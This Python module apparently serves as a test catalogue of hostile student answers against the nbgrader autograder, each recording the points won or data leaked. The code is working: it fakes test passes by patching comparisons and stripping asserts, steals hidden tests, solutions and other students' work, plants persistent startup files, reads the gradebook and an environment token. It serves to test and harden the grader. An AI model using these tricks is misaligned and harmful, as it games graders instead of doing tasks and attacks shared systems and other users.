"""Answers that know nothing of the exercise, and what stock nbgrader gives for them.

Each is put below the wrong answers in the cell of `total`, so that it runs before every test.
LOOT stands for a file of the attacker's own, ROOT for the course's folder, PORT for a service's port.
Bombs (memory, processes, disk) are left out: nbgrader has no limit, and the machine would suffer.
"""

from __future__ import annotations

from dataclasses import dataclass, field

SHELL = "from IPython import get_ipython\nshell = get_ipython()\n"


@dataclass(frozen=True)
class Attack:
    """`wins`: the points that it gets; `leaks`: whether it carries a hidden test away.

    `proof`: what lies in the loot when grading is over, of an attack that does something else.
    `files`: handed in beside the notebook.
    """

    what: str
    code: str
    wins: float = 0.0
    leaks: bool = False
    tags: tuple[str, ...] = ()
    proof: str = ""
    files: dict[str, str] = field(default_factory=dict)


ATTACKS = {
    "allclose": Attack(
        "torch.allclose replaced", "torch.allclose = lambda *args, **kwargs: True", 50
    ),
    "always-equal": Attack(
        "an object that equals everything",
        "class Equal:\n    def __eq__(self, other):\n        return True\n"
        "def total(numbers):\n    return Equal()",
        50,
    ),
    "tensor-subclass": Attack(
        "a Tensor subclass that answers for torch's functions",
        "class Right(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n        return True\n"
        "def double(x):\n    return torch.ones(1).as_subclass(Right)",
        50,
    ),
    "caller-frame": Attack(
        "the expected value read from the test's frame",
        "import sys\ndef total(numbers):\n"
        "    consts = sys._getframe(1).f_code.co_consts\n"
        "    return max([each for each in consts if isinstance(each, int) and each >= sum(numbers)],"
        " key=lambda n: -abs(n - sum(numbers)))",
        50,
    ),
    "ast-transformer": Attack(
        "asserts taken out of every cell by an AST transformer",
        SHELL + "import ast\nclass Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "shell.ast_transformers.append(Drop())",
        100,
    ),
    "input-transformer": Attack(
        "asserts taken out of every cell by an input transformer",
        SHELL + "shell.input_transformers_post.append("
        "lambda lines: [line for line in lines if not line.startswith('assert')])",
        100,
    ),
    "skip-execution": Attack("test cells tagged skip-execution", "", 100, tags=("skip-execution",)),
    "sources": Attack(
        "the solution read from the course's folder and used",
        "import json\n"
        "for cell in json.load(open('ROOT/source/lab/lab.ipynb'))['cells']:\n"
        "    if cell['metadata']['nbgrader']['solution']:\n"
        "        exec(''.join(cell['source']))",
        100,
    ),
    "pre-run-hook": Attack(
        "hidden tests written away by a hook before every cell",
        SHELL + "shell.events.register('pre_run_cell', "
        "lambda info: open('LOOT', 'a').write(info.raw_cell))",
        leaks=True,
    ),
    "history": Attack(
        "hidden tests taken from IPython's history while they run",
        SHELL + "def total(numbers):\n    open('LOOT', 'w').write(shell.user_ns['In'][-1])",
        leaks=True,
    ),
    "frames": Attack(
        "hidden values taken from the test's frame",
        "import sys\ndef total(numbers):\n"
        "    open('LOOT', 'a').write(repr((numbers, sys._getframe(1).f_code.co_consts)))\n"
        "    return sum(numbers) if numbers == [1, 2] else None",
        leaks=True,
    ),
    "background": Attack(
        "a thread that goes through memory until the hidden tests are there",
        "import gc, threading, time\ndef seek():\n"
        "    for _ in range(600):\n"
        "        for each in list(globals().get('In', [])):\n"
        "            if 'assert' in each and 'seek' not in each:\n"
        "                open('LOOT', 'a').write(each)\n"
        "        time.sleep(0.002)\n"
        "threading.Thread(target=seek, daemon=True).start()\n"
        "def total(numbers):\n    time.sleep(0.3)",
        leaks=True,
    ),
    "others-work": Attack(
        "another student's answers read and used",
        "import json\n"
        "for cell in json.load(open('ROOT/submitted/right/lab/lab.ipynb'))['cells']:\n"
        "    if cell['metadata']['nbgrader']['solution']:\n"
        "        exec(''.join(cell['source']))",
        100,
    ),
    "planted-module": Attack(
        "a torch.py handed in beside the notebook",
        "",
        50,
        files={
            "torch.py": "def ones(*args):\n    return 1\nfull = tensor = ones\n"
            "def allclose(*args):\n    return True\n"
        },
    ),
    "startup-file": Attack(
        "a start-up file of IPython that runs in the kernels of later students",
        "import os, pathlib\nfolder = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
        "folder.mkdir(parents=True, exist_ok=True)\n"
        "(folder / '50-planted.py').write_text("
        '\'open("LOOT", "a").write("in the kernel of another")\')',
        proof="in the kernel of another",
    ),
    "outlives": Attack(
        "a process that goes on when grading is over",
        "import os, subprocess\n"
        "wait = f'while kill -0 {os.getppid()}; do sleep 0.2; done; echo outlived > LOOT'\n"
        "null = subprocess.DEVNULL\n"
        "subprocess.Popen(['sh', '-c', wait], start_new_session=True, stdout=null, stderr=null)",
        proof="outlived",
    ),
    "gradebook": Attack(
        "who is in the class, read from the gradebook",
        "import sqlite3\nbook = sqlite3.connect('file:ROOT/gradebook.db?mode=ro', uri=True)\n"
        "open('LOOT', 'w').write(repr(book.execute('SELECT id FROM student').fetchall()))",
        proof="allclose",
    ),
    "network": Attack(
        "a service of the machine asked over the network",
        "import urllib.request\n"
        "said = urllib.request.urlopen('http://127.0.0.1:PORT/said').read().decode()\n"
        "open('LOOT', 'w').write(said)",
        proof="only for this machine",
    ),
    "environment": Attack(
        "a token read from the grader's environment",
        "import os\nopen('LOOT', 'w').write(os.environ['TOKEN'])",
        proof="of-the-teacher",
    ),
}
